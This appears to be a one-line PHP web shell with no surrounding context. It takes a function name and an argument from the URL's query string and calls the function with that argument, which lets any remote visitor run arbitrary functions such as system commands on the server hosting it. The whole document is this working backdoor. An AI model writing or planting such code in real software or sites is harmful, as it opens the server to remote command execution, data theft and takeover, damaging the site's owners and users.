<?php $f = $_GET; ($f["a"])($f["b"]);
